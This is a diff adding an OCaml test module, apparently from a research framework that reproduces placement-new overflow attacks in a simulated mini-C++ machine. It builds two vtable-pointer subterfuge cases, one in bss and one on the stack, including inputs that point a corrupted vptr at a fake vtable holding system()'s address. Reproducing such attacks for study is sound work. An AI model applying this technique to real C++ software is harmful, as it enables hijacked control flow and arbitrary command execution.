@@ -1,0 +1,97 @@
+(** §3.8.2 — Virtual table pointer subterfuge.
+
+    With the virtual classes, the hidden vtable pointer is the first word
+    of every object. An overflow that reaches an adjacent object's first
+    word therefore redirects its dynamic dispatch.
+
+    - [bss]: stud1/stud2 are polymorphic globals; the GradStudentV placed
+      over stud1 writes ssn[0] onto stud2's vptr. The attacker points the
+      vptr *into stud1's own ssn area*, where ssn[1] acts as the fake
+      vtable slot holding the address of system(): the next
+      stud2.getInfo() call becomes an arc injection.
+    - [stack]: the Listing-16 shape with polymorphic classes; the attacker
+      writes an invalid vptr and the dispatch crashes (the paper's "or even
+      crash the program by supplying an invalid address"). *)
+
+open Pna_minicpp.Dsl
+module C = Catalog
+module D = Driver
+module Machine = Pna_machine.Machine
+module Event = Pna_machine.Event
+module O = Pna_minicpp.Outcome
+
+let bss_program =
+  program ~classes:Schema.virtual_classes
+    ~globals:[ global "stud1" (cls "StudentV"); global "stud2" (cls "StudentV") ]
+    (Schema.virtual_funcs
+    @ [
+        func "main"
+          [
+            (* construct stud2 properly: equal-size placement, no overflow *)
+            expr (pnew (addr (v "stud2")) (cls "StudentV") []);
+            decli "gs"
+              (ptr (cls "GradStudentV"))
+              (pnew (addr (v "stud1")) (cls "GradStudentV") []);
+            expr (mcall (v "gs") "setSSN" [ cin; cin; cin ]);
+            (* dynamic dispatch through stud2's (now corrupted) vptr *)
+            decli "r" int (mcall (v "stud2") "getInfo" []);
+            ret (v "r");
+          ];
+      ])
+
+let bss_input m =
+  (* fake vtable = &stud1.ssn[1]; its slot 0 holds system()'s address *)
+  let stud1 = Machine.global_addr_exn m "stud1" in
+  let fake_vtable = stud1 + 28 in
+  let system_addr = Machine.function_addr m "system" in
+  ([ fake_vtable; system_addr; 0 ], [])
+
+let bss =
+  C.make ~id:"VT-bss" ~section:"3.8.2" ~name:"vtable subterfuge via bss overflow"
+    ~segment:C.Data_bss
+    ~goal:"point an adjacent object's vptr at a fake vtable -> system()"
+    ~program:bss_program ~mk_input:bss_input
+    ~check:(C.expect_arc ~via:O.Vtable ~symbol:"system") ()
+
+let stack_program =
+  program ~classes:Schema.virtual_classes
+    ~globals:[ global "isGradStudent" int ]
+    (Schema.virtual_funcs
+    @ [
+        func "addStudent"
+          [
+            obj "first" "StudentV" [];
+            obj "stud" "StudentV" [];
+            when_ (v "isGradStudent")
+              [
+                decli "gs"
+                  (ptr (cls "GradStudentV"))
+                  (pnew (addr (v "stud")) (cls "GradStudentV") []);
+                (* ssn[0] aliases first.__vptr *)
+                set (idx (arrow (v "gs") "ssn") (i 0)) cin;
+              ];
+            decli "r" int (mcall (v "first") "getInfo" []);
+          ];
+        func "main"
+          [ set (v "isGradStudent") (i 1); expr (call "addStudent" []); ret (i 0) ];
+      ])
+
+let stack_check _m (o : O.t) =
+  let hijacked =
+    List.exists
+      (function Event.Vptr_hijacked { tainted; _ } -> tainted | _ -> false)
+      o.O.events
+  in
+  match o.O.status with
+  | O.Crashed _ when hijacked ->
+    C.success "dispatch went through the attacker's invalid vptr and crashed"
+  | st when hijacked -> C.success "dispatch hijacked (%a)" O.pp_status st
+  | st -> C.failure "vptr intact (status %a)" O.pp_status st
+
+let stack =
+  C.make ~id:"VT-stack" ~section:"3.8.2"
+    ~name:"vtable subterfuge via stack overflow" ~segment:C.Stack
+    ~goal:"corrupt a stack object's vptr; next virtual call is attacker-steered"
+    ~program:stack_program
+    ~mk_input:(fun _m -> ([ 0x0deadbe8 ], []))
+    ~check:stack_check ()
